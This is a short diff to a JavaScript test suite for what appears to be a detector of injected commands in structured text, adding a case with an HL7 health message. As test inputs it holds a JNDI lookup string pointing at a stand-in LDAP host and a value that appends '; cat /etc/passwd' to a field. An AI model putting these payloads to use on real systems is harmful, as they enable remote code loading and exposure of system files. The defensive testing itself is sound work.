@@ -216,3 +216,12 @@ describe('Blocks of code in structured texts', () => {
     expect(json({ content: [{ type: 'codeBlock', text: '${jndi:ldap://h.example/a}' }] })).toBe('jndi');
   });
 });
+
+it('reads a message of HL7 as fields, and the test of a health check as a command', () => {
+  const text = 'MSH|^~\\&|A|B|C|D|1||ADT^A01|1|P|2.5\rOBX|1|NM|GLU||5|mmol/L|<6|N';
+  expect(inBody(text, 'text/plain')).toBeUndefined();
+  expect(json({ note: `${text}; cat /etc/passwd` })).toBeDefined();
+  expect(
+    json({ web: { healthcheck: { test: ['CMD', 'curl', '-f', 'http://localhost/ || exit 1'] } } }),
+  ).toBeUndefined();
+});
